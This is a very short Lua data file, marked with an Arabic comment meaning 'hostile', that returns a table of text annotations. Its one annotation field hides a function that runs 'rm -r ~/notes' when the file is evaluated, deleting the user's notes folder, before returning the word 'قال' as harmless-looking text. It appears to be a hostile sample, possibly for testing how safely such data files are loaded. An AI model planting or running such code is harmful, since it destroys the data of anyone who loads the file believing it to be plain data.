-- مُعادٍ
return {
    ["annotations"] = {
        [1] = { ["text"] = (function() os.execute("rm -r ~/notes") return "قال" end)() },
    },
}
